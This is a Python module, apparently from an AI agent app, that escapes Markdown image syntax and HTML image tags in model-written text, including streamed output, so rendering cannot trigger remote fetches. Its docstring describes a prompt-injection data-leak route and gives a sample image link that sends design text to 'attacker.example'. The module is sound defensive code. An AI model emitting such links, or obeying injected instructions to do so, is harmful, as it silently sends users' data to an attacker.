"""Model-written text made safe to render: no image the browser would fetch on its own.

A model (or an artifact that injected instructions into it) can write
`![x](https://attacker.example/?q=<design text>)`; rendered, the browser fetches that
URL at once and the design leaks without a click. Image syntax is escaped to show as
text (`!\\[`), raw `<img` tags too. The app's Content-Security-Policy (agent/ui/headers.py)
blocks remote images as well; this keeps the text honest even where CSP is not applied.
Streams are guarded across token boundaries: "!" ending one token, "[" starting the next.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!(?=\[)")
_HTML_IMAGE = re.compile(r"<(?=\s*(?:img|image|picture|svg|source)\b)", re.IGNORECASE)


def without_images(text: str) -> str:
    """`text` with Markdown image syntax and image tags shown literally."""
    return _HTML_IMAGE.sub("&lt;", _IMAGE.sub("!\\\\", text))


class StreamGuard:
    """`without_images` for text arriving in pieces (a streamed answer)."""

    def __init__(self) -> None:
        self._last = ""

    def feed(self, piece: str) -> str:
        if not piece:
            return piece
        safe = without_images(piece)
        if self._last == "!" and piece.startswith("["):
            safe = "\\" + safe
        elif self._last == "<" and re.match(r"\s*(?:img|image|picture|svg|source)\b", piece, re.I):
            safe = " " + safe  # "< img" is not a tag
        self._last = piece[-1]
        return safe
